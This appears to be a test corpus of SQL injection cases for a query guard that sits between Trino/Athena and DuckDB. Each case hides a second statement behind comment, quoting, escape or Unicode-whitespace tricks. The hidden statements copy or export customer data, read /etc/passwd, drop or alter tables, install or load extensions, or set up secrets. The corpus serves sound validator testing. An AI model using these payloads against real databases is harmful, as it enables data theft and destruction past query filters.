-- header: lexer/parser differentials between Trino (Athena engine v3) and DuckDB, plus plain
-- multi-statement strings (DuckDB JDBC runs every statement of a multi-statement string).
-- Each case is one harmful text: what one parser reads as a single harmless SELECT, the other
-- reads as a second statement (file write, attach, install, DDL/DML, settings) or different content.
-- Techniques: DuckDB nested /* */ comments, E'' backslash escapes, $$ / $tag$ dollar quotes,
-- backtick and double-quoted identifiers, unicode spaces DuckDB strips (NBSP, ZWSP, BOM, U+3000...),
-- CR as line-comment terminator, trailing comments that swallow an appended LIMIT, LIMIT NULL/100%.
-- Cases named 'reverse ...' are harmful on Athena/Trino while DuckDB's parser sees a harmless query.
-- ${CANARY} is the directory any written file should go to.
--- lexer: nested comment + line comment hides copy table to file
SELECT 1 AS ok /* /* */ -- */ ; COPY customers TO '${CANARY}/leak_customers.csv'
--- lexer: nested comment + line comment hides copy query of emails to file
SELECT 1 AS ok /* /* */ -- */ ; COPY (SELECT email FROM customers) TO '${CANARY}/emails.csv' (HEADER false)
--- lexer: nested comment + line comment hides copy to parquet
SELECT 1 AS ok /* /* */ -- */ ; COPY suppliers TO '${CANARY}/suppliers.parquet' (FORMAT parquet)
--- lexer: nested comment + line comment hides export database
SELECT 1 AS ok /* /* */ -- */ ; EXPORT DATABASE '${CANARY}/dump'
--- lexer: nested comment + line comment hides attach new file
SELECT 1 AS ok /* /* */ -- */ ; ATTACH '${CANARY}/other.db' AS other
--- lexer: nested comment + line comment hides install extension
SELECT 1 AS ok /* /* */ -- */ ; INSTALL httpfs
--- lexer: nested comment + line comment hides force install from url
SELECT 1 AS ok /* /* */ -- */ ; FORCE INSTALL httpfs FROM 'http://127.0.0.1:9/repo'
--- lexer: nested comment + line comment hides load extension file
SELECT 1 AS ok /* /* */ -- */ ; LOAD '${CANARY}/evil.duckdb_extension'
--- lexer: nested comment + line comment hides create table as
SELECT 1 AS ok /* /* */ -- */ ; CREATE TABLE pwned AS SELECT * FROM customers
--- lexer: nested comment + line comment hides create temp table
SELECT 1 AS ok /* /* */ -- */ ; CREATE TEMP TABLE stash AS SELECT email FROM customers
--- lexer: nested comment + line comment hides temp view shadows orders
SELECT 1 AS ok /* /* */ -- */ ; CREATE OR REPLACE TEMP VIEW orders AS SELECT * FROM customers
--- lexer: nested comment + line comment hides create macro
SELECT 1 AS ok /* /* */ -- */ ; CREATE OR REPLACE MACRO total_amount(x) AS (SELECT max(email) FROM customers)
--- lexer: nested comment + line comment hides create secret
SELECT 1 AS ok /* /* */ -- */ ; CREATE SECRET s3leak (TYPE s3, KEY_ID 'AKIAEXAMPLE', SECRET 'x', ENDPOINT '127.0.0.1:9')
--- lexer: nested comment + line comment hides set memory limit
SELECT 1 AS ok /* /* */ -- */ ; SET memory_limit = '100TB'
--- lexer: nested comment + line comment hides set global threads
SELECT 1 AS ok /* /* */ -- */ ; SET GLOBAL threads = 1
--- lexer: nested comment + line comment hides reset setting
SELECT 1 AS ok /* /* */ -- */ ; RESET memory_limit
--- lexer: nested comment + line comment hides set search path
SELECT 1 AS ok /* /* */ -- */ ; SET search_path = 'temp.main'
--- lexer: nested comment + line comment hides set log query path
SELECT 1 AS ok /* /* */ -- */ ; SET log_query_path = '${CANARY}/queries.log'
--- lexer: nested comment + line comment hides pragma profiling to file
SELECT 1 AS ok /* /* */ -- */ ; PRAGMA enable_profiling = 'json'; SET profiling_output = '${CANARY}/profile.json'
--- lexer: nested comment + line comment hides pragma disable checkpoint
SELECT 1 AS ok /* /* */ -- */ ; PRAGMA disable_checkpoint_on_shutdown
--- lexer: nested comment + line comment hides call secrets
SELECT 1 AS ok /* /* */ -- */ ; CALL duckdb_secrets()
--- lexer: nested comment + line comment hides checkpoint
SELECT 1 AS ok /* /* */ -- */ ; FORCE CHECKPOINT
--- lexer: nested comment + line comment hides detach
SELECT 1 AS ok /* /* */ -- */ ; ATTACH '${CANARY}/d.db' AS d; DETACH d
--- lexer: nested comment + line comment hides use other database
SELECT 1 AS ok /* /* */ -- */ ; ATTACH ':memory:' AS scratch; USE scratch
--- lexer: nested comment + line comment hides drop table
SELECT 1 AS ok /* /* */ -- */ ; DROP TABLE reviews
--- lexer: nested comment + line comment hides delete rows
SELECT 1 AS ok /* /* */ -- */ ; DELETE FROM reviews
--- lexer: nested comment + line comment hides update rows
SELECT 1 AS ok /* /* */ -- */ ; UPDATE products SET price = 0.01
--- lexer: nested comment + line comment hides insert row
SELECT 1 AS ok /* /* */ -- */ ; INSERT INTO categories VALUES (9999, 'pwned', 'pwned')
--- lexer: nested comment + line comment hides set variable with emails
SELECT 1 AS ok /* /* */ -- */ ; SET VARIABLE leak = (SELECT string_agg(email, ',') FROM customers)
--- lexer: nested comment + line comment hides alter table rename
SELECT 1 AS ok /* /* */ -- */ ; ALTER TABLE reviews RENAME TO reviews_old
--- lexer: nested comment + line comment hides truncate
SELECT 1 AS ok /* /* */ -- */ ; TRUNCATE reviews
--- lexer: nested comment + line comment hides import database
SELECT 1 AS ok /* /* */ -- */ ; IMPORT DATABASE '${CANARY}/dump'
--- lexer: nested comment + line comment hides prepare execute delete
SELECT 1 AS ok /* /* */ -- */ ; PREPARE p AS DELETE FROM reviews; EXECUTE p
--- lexer: nested comment + line comment hides read system file
SELECT 1 AS ok /* /* */ -- */ ; SELECT * FROM read_text('/etc/passwd')
--- lexer: nested comment + line comment hides select restricted column
SELECT 1 AS ok /* /* */ -- */ ; SELECT first_name, email FROM customers
--- lexer: nested comment multi-line hides copy
SELECT order_id, total_amount
FROM orders /* note: /* see ticket */
-- */ ; COPY orders TO '${CANARY}/orders.csv'
--- lexer: nested comment inside real query hides drop
SELECT status, count(*) AS n FROM orders GROUP BY status /* /* */ -- */ ; DROP TABLE payments
--- lexer: nested comment hides payload inside trino string literal
SELECT 1 AS ok /* /* */ , ' */ ; COPY customers TO $$${CANARY}/leak_customers.csv$$; SELECT ' AS x -- '
--- lexer: nested comment hides export inside trino string literal
SELECT 1 AS ok /* /* */ , ' */ ; EXPORT DATABASE $$${CANARY}/dump$$; SELECT ' AS x -- '
--- lexer: nested comment hides payload inside trino quoted identifier
SELECT 1 /* /* */ AS " */ ; ATTACH '${CANARY}/other.db' AS other; SELECT 1 AS " -- "
--- lexer: nested comment without spaces hides create
SELECT 1 /*/**/-- */; CREATE TABLE pwned_nospace AS SELECT * FROM suppliers
--- lexer: triple nested comment hides install
SELECT 1 /* a /* b /* c */ -- */ */ ; INSTALL httpfs; LOAD httpfs
--- lexer: nested comment in arithmetic changes value and appends copy
SELECT 1 + /* /* */ 2 -- */ 3 ; COPY payments TO '${CANARY}/payments.csv'
--- lexer: optimizer-hint style nested comment hides set
SELECT 1 AS x /*+ BROADCAST /* t */ -- */ ; SET threads = 1
--- lexer: nested comment spanning lines each guarded by trino line comments
SELECT 1 AS ok /* begin
/* inner */
-- */ ; COPY (SELECT email FROM customers) TO '${CANARY}/emails.csv' (HEADER false)
-- trailing note
--- lexer: escape string hides copy
SELECT E'\' AS a, '; COPY customers TO $$${CANARY}/leak_customers.csv$$ --' AS b
--- lexer: escape string hides export
SELECT E'\' AS a, '; EXPORT DATABASE $$${CANARY}/dump$$ --' AS b
--- lexer: escape string hides attach
SELECT E'\' AS a, '; ATTACH $$${CANARY}/other.db$$ AS other --' AS b
--- lexer: escape string hides drop in where clause
SELECT count(*) FROM orders WHERE status = E'\' OR status = '; DROP TABLE reviews; --'
--- lexer: escape string hides delete in IN list
SELECT count(*) FROM orders WHERE status IN (E'\', '); DELETE FROM reviews; --')
--- lexer: lowercase escape string hides install
SELECT e'\' AS a, '; INSTALL httpfs; LOAD httpfs; --' AS b
--- lexer: escape string with double backslash then quote hides create
SELECT E'\\\' AS a, '; CREATE TABLE pwned_e AS SELECT * FROM customers; --' AS b
--- lexer: escape string in LIKE pattern hides set
SELECT count(*) FROM products WHERE name LIKE E'%\' OR name LIKE '; SET memory_limit = $$100TB$$; --'
--- lexer: escape string multi-line hides copy of emails
SELECT E'\' AS a,
'; COPY (SELECT email FROM customers) TO $$${CANARY}/emails.csv$$ (HEADER false)
--' AS b
--- lexer: escape string hides restricted select
SELECT E'\' AS a, '; SELECT email, contact_email FROM customers, suppliers --' AS b
--- lexer: dollar quote holding a single quote hides statement from naive lexer
SELECT $$'$$ AS a; COPY customers TO $$${CANARY}/dq.csv$$; SELECT $$'$$ AS b
--- lexer: tagged dollar quote holding a single quote hides create
SELECT $a$'$a$ AS a; CREATE TABLE pwned_dollar AS SELECT * FROM customers; SELECT $a$'$a$ AS b
--- lexer: dollar quote holding line comment marker hides drop
SELECT $$--$$ AS a; DROP TABLE reviews
--- lexer: dollar quote holding block comment markers hides attach
SELECT $$/*$$ AS a; ATTACH $$${CANARY}/dollar.db$$ AS x; SELECT $$*/$$ AS b
--- lexer: dollar quote holding semicolon and closing quote
SELECT $$;'$$ AS a; DELETE FROM reviews; SELECT $$';$$ AS b
--- lexer: dollar tag that looks like an identifier
SELECT $select$'$select$ AS a; UPDATE products SET price = 0; SELECT $select$'$select$ AS b
--- lexer: dollar quoted copy path
COPY (SELECT * FROM suppliers) TO $path$${CANARY}/dollar_path.csv$path$
--- lexer: dollar quote nested in E string confusion
SELECT $$E'\'$$ AS a; SET GLOBAL threads = 1; SELECT $$'$$ AS b
--- lexer: backtick identifier holding a single quote hides create
SELECT 1 AS `'`; CREATE TABLE pwned_bt AS SELECT * FROM customers; SELECT 1 AS `'`
--- lexer: backtick identifier reads restricted column
SELECT `first_name`, `email` FROM `customers`
--- lexer: backtick identifier holding comment marker hides drop
SELECT 1 AS `--`; DROP TABLE reviews
--- lexer: double quoted identifier holding single quote hides copy
SELECT 1 AS "'"; COPY customers TO '${CANARY}/dq_ident.csv'; SELECT 1 AS "'"
--- lexer: double quoted identifier holding comment marker hides delete
SELECT 1 AS "--"; DELETE FROM reviews
--- lexer: double quoted identifier with doubled quotes hides install
SELECT 1 AS "a""; '"; INSTALL httpfs; SELECT 1 AS "'"
--- lexer: string literal holding line comment marker
SELECT '--' AS a; COPY customers TO '${CANARY}/str_dash.csv'
--- lexer: string literal holding block comment open
SELECT '/*' AS a; DROP TABLE reviews; SELECT '*/' AS b
--- lexer: string literal with doubled quote and semicolon
SELECT 'it''s; fine' AS a; DELETE FROM reviews; SELECT ''';' AS b
--- lexer: trailing backslash in standard string ends it
SELECT 'C:\' AS path; DROP TABLE reviews; SELECT ' AS y -- '
--- lexer: backslash quote in standard string is not an escape
SELECT 'a\' AS x; COPY suppliers TO '${CANARY}/bs.csv'; SELECT '\' AS y
--- lexer: string literal holding star slash
SELECT '*/' AS a /* real comment */; SET GLOBAL threads = 1
--- lexer: no-break spaces around copy keywords
COPY<U+00A0>customers<U+00A0>TO<U+00A0>'${CANARY}/nbsp.csv'
--- lexer: zero-width space before second statement
SELECT 1;<U+200B>DROP<U+200B>TABLE<U+200B>reviews
--- lexer: byte order mark before drop
<U+FEFF>DROP TABLE reviews
--- lexer: byte order mark before select then copy
<U+FEFF>SELECT 1;<U+FEFF>COPY customers TO '${CANARY}/bom.csv'
--- lexer: ideographic space separates attach
SELECT 1;<U+3000>ATTACH<U+3000>'${CANARY}/ideo.db'<U+3000>AS<U+3000>x
--- lexer: vertical tab and form feed as whitespace
SELECT 1<U+000B>;<U+000C>EXPORT<U+000B>DATABASE<U+000C>'${CANARY}/vtff'
--- lexer: word joiner inside keyword gap
SELECT 1;<U+2060>DELETE<U+2060>FROM<U+2060>reviews
--- lexer: narrow no-break space in install
SELECT 1;<U+202F>INSTALL<U+202F>httpfs
--- lexer: em space and thin space separate create
SELECT 1;<U+2003>CREATE<U+2009>TABLE<U+2009>pwned_u AS SELECT * FROM customers
--- lexer: hair space before semicolon
SELECT 1<U+200A>;<U+200A>SET memory_limit = '100TB'
--- lexer: fullwidth semicolon decoy next to real semicolon
SELECT '<U+FF1B>' AS a<U+FF1B> ; DROP TABLE reviews
--- lexer: greek question mark decoy next to real semicolon
SELECT 1 AS a -- <U+037E>
; DELETE FROM reviews
--- lexer: medium mathematical space before copy
SELECT 1;<U+205F>COPY<U+205F>orders<U+205F>TO<U+205F>'${CANARY}/mms.csv'
--- lexer: nul byte after harmful statement
COPY customers TO '${CANARY}/nul.csv'<U+0000> -- SELECT 1
--- lexer: carriage return ends line comment
SELECT 1 -- harmless<U+000D>; COPY customers TO '${CANARY}/cr.csv'
--- lexer: carriage return ends line comment before drop
SELECT count(*) FROM orders -- note<U+000D>; DROP TABLE reviews
--- lexer: crlf line endings with payload on second line
SELECT 1 AS ok;<U+000D>
EXPORT DATABASE '${CANARY}/crlf'
--- lexer: carriage return only line endings
SELECT 1 AS ok<U+000D>;<U+000D>INSTALL httpfs<U+000D>
--- lexer: carriage return inside line comment then lf
SELECT 1 -- a<U+000D>; DELETE FROM reviews; -- b
--- lexer: line comment ends at lf then second statement
SELECT 1 -- just a comment ;
; ATTACH '${CANARY}/lf.db' AS x
--- lexer: limit null means no limit in duckdb
SELECT * FROM order_items LIMIT NULL
--- lexer: limit one hundred percent
SELECT * FROM order_items LIMIT 100%
--- lexer: limit one hundred percent keyword
SELECT * FROM order_items LIMIT 100 PERCENT
--- lexer: limit from subquery covers all rows
SELECT * FROM order_items LIMIT (SELECT count(*) FROM order_items)
--- lexer: plain two statements copy
SELECT 1; COPY customers TO '${CANARY}/plain.csv'
--- lexer: plain payload first then select
COPY customers TO '${CANARY}/first.csv'; SELECT 1
--- lexer: plain leading semicolon
;DROP TABLE reviews
--- lexer: plain empty statements between
SELECT 1;;; DELETE FROM reviews;;
--- lexer: plain newline separated export
SELECT 1
;
EXPORT DATABASE '${CANARY}/plain_dump'
--- lexer: plain comment between statements
SELECT 1; /* maintenance */ TRUNCATE reviews
--- lexer: plain three statements attach and copy out
ATTACH '${CANARY}/exfil.db' AS exfil; CREATE TABLE exfil.c AS SELECT * FROM customers; SELECT 1
--- lexer: plain select then restricted select
SELECT count(*) FROM orders; SELECT email FROM customers
--- lexer: plain set then select
SET enable_progress_bar = true; SET threads = 1; SELECT 1
--- lexer: plain install load
INSTALL httpfs; LOAD httpfs; SELECT 1
--- lexer: plain semicolon inside trailing comment plus real one
SELECT 1 /* ; */ ; DROP TABLE reviews
--- lexer: plain lowercase mixed case payload
select 1; dRoP tAbLe reviews
--- lexer: plain tab separated payload
SELECT 1;	UPDATE	products	SET	price	=	0
--- lexer: plain copy then detach
ATTACH '${CANARY}/t.db' AS t; DETACH t; SELECT 1
--- lexer: plain pragma after select
SELECT 1; PRAGMA threads = 1
--- lexer: plain call after select
SELECT 1; CALL pragma_database_list()
--- lexer: plain checkpoint after select
SELECT 1; CHECKPOINT
--- lexer: reverse nested comment hides email from duckdb only
SELECT first_name /* /* */ , email
-- */
FROM customers
--- lexer: reverse escape string hides email from duckdb only
SELECT first_name, E'\' , email FROM customers --' FROM customers
--- lexer: reverse nested comment hides contact email from duckdb only
SELECT name /* /* */ , contact_email
-- */
FROM suppliers
--- lexer: reverse escape string hides union with email from duckdb only
SELECT first_name FROM customers WHERE E'\' = '' UNION ALL SELECT email FROM customers --' = ''
